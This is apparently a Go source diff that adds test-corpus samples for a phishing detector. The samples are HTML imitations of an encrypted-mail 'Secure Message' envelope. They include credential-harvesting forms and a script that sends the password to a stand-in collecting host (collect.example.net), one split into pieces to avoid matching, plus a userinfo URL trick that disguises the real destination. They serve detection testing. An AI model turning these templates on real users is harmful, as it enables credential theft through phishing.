@@ -1,6 +1,7 @@
 package corpus
 
 import (
+	"crypto/sha256"
 	"encoding/base64"
 	"strings"
 
@@ -73,6 +74,39 @@ const sendFetch = `document.getElementById("submit-btn").addEventListener("click
 	`  fetch("` + phishTarget + `", {method: "POST", headers: {"Content-Type": "application/x-www-form-urlencoded"},` + "\r\n" +
 	`    body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});` + "\r\n" +
 	`});`
+
+// secureEnvelope is a secure-message envelope of the kind an
+// encrypted-mail service attaches (written for the corpus after the
+// elements Cisco's recipient guide describes: sender, recipient, password
+// field, Open button, help and forgotten-password links, the encrypted
+// message in the file): its form and its script send only to the
+// service's host, res.cisco.com. action is where the form posts; script
+// runs when Open is pressed; the encrypted message stands in as bytes
+// derived from seed, so that each envelope holds its own message.
+func secureEnvelope(seed, action, script string) string {
+	var msg []byte
+	for h := sha256.Sum256([]byte(seed)); len(msg) < 576; h = sha256.Sum256(h[:]) {
+		msg = append(msg, h[:]...)
+	}
+	payload := base64.StdEncoding.EncodeToString(msg)
+	var lines []string
+	for len(payload) > 76 {
+		lines, payload = append(lines, payload[:76]), payload[76:]
+	}
+	lines = append(lines, payload)
+	return "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-8\"><title>Secure Message</title><style>body{font-family:Arial}.env{width:520px;margin:40px auto;border:1px solid #ccc;padding:24px}</style></head>\r\n" +
+		`<body><div class="env"><img src="https://res.cisco.com/websafe/images/envelope.gif" alt=""><h2>Secure Message</h2>` +
+		`<p>From: billing@shop.example.com<br>To: kenji@corp.example.jp<br>Received: 15 January 2027 10:15</p>` + "\r\n" +
+		`<form name="envelope" method="post" action="` + action + `">` + "\r\n" +
+		`<input type="hidden" name="encryptedMessage" value="` + strings.Join(lines, "\r\n") + `">` + "\r\n" +
+		`<input type="hidden" name="keyId" value="7f3c-4471"><label>Password: <input type="password" name="key1"></label> ` +
+		`<button type="submit" id="open">Open</button></form>` + "\r\n" +
+		`<p><a href="https://res.cisco.com/websafe/help?topic=RegEnvelope">Help</a> | <a href="https://res.cisco.com/websafe/pswdForgot.action">Forgot password?</a></p></div>` + "\r\n" +
+		"<script>\r\ndocument.forms[0].addEventListener(\"submit\", function (ev) {\r\n" + script + "});\r\n</script></body></html>\r\n"
+}
+
+// envelopeAction is where the honest envelope posts.
+const envelopeAction = "https://res.cisco.com/websafe/openEnvelope"
 
 func htmlPhishCases() []officeCase {
 	b64 := base64.StdEncoding.EncodeToString([]byte(writtenLogin))
@@ -151,6 +185,15 @@ func htmlPhishCases() []officeCase {
 					`  ev.preventDefault();`+"\r\n"+
 					`  fetch(cfg.gate, {method: "POST", body: "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value)});`+"\r\n"+
 					`});`), "html-credential-form", "lookalike-domain"),
+		// Imitations of an encrypted-mail envelope: the service's look, but
+		// the password also (or only) goes elsewhere.
+		quarantine("html-phish-envelope-imitation", "HTML imitation of a secure-message envelope: the service's images and help links, its form posting to a collecting host",
+			"securedoc_20270115T101500.html", secureEnvelope("imitation", phishTarget, ""), "html-credential-form"),
+		quarantine("html-phish-envelope-both", "HTML secure-message envelope whose form posts to the service while its script also sends the password to a collecting host",
+			"securedoc_20270115T101501.html", secureEnvelope("both", envelopeAction,
+				`  fetch(["https:", "", "collect.example.net", "owa", "auth.php"].join("/"), {method: "POST", mode: "no-cors", keepalive: true, body: new FormData(this)});`+"\r\n"), "html-credential-form"),
+		quarantine("html-phish-envelope-userinfo", "HTML secure-message envelope whose form action names the service's host as userinfo (https://res.cisco.com@collect...): the browser posts to the host after the @",
+			"securedoc_20270115T101502.html", secureEnvelope("userinfo", "https://res.cisco.com@collect.example.net/owa/auth.php", ""), "html-credential-form"),
 		quarantine("html-redirect-iframe", "HTML attachment that shows a remote login page in a frame across the window",
 			"Wire_Confirmation.html", "<html><head><style>html,body{margin:0;height:100%;overflow:hidden}</style></head><body>\r\n<iframe src=\"https://landing.example.net/signin/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:none\"></iframe>\r\n</body></html>\r\n", "html-redirect-attachment"),
 		quarantine("html-redirect-written-refresh", "HTML attachment whose script writes a meta refresh to a remote page with document.write(unescape(...))",
@@ -202,6 +245,11 @@ func htmlPhishClean() []Sample {
 				"<body><h1>Example Shop</h1><p>Order 2026-1187, 2 November 2026.</p><table>"+items.String()+"</table>\r\n"+
 				"<p><a href=\"https://shop.example.com/orders/2026-1187\">View your order</a></p>"+
 				"<button onclick=\"location.href = help\">Help</button></body></html>\r\n")))})
+	add(ok("html-secure-envelope", "a secure-message envelope from an encrypted-mail service (Cisco's, securedoc_*.html): a password field whose form and script send only to the service's host, res.cisco.com"),
+		mail{from: "Example Shop Billing <billing@shop.example.com>", subject: "[Secure] Your January statement", root: multipart("mixed",
+			text("You have received a secure message. Open the attachment securedoc_20270115T101503.html to read it.\n"),
+			attach("text/html; charset=utf-8", "securedoc_20270115T101503.html", []byte(secureEnvelope("honest", envelopeAction,
+				`  this.action = "https://res.cisco.com/websafe/" + "openEnvelope?keyId=" + this.keyId.value;`+"\r\n"))))})
 	add(ok("html-body-login-link", "an HTML body asking the reader to sign in by a link to the sender's own site"),
 		mail{subject: "Your account", root: html(`<p>Dear customer,</p><p>your statement is ready. <a href="https://shop.example.com/account/login">Sign in to your account</a> to read it.</p><p>Example Shop</p>`)})
 	return out
